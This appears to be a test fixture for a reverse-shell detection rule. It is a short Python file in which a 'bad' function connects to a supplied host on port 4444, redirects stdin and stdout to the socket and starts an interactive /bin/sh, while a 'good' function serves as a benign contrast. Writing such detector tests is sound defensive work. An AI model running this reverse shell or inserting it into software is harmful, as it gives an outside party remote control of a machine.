import os
import socket
import subprocess


def bad(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, 4444))
    # ruleid: reverse-shell
    os.dup2(s.fileno(), 0)
    # ruleid: reverse-shell
    os.dup2(s.fileno(), 1)
    subprocess.call(["/bin/sh", "-i"])


def good(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, 80))
    # ok: reverse-shell
    os.dup2(1, 2)
    return s.recv(100)
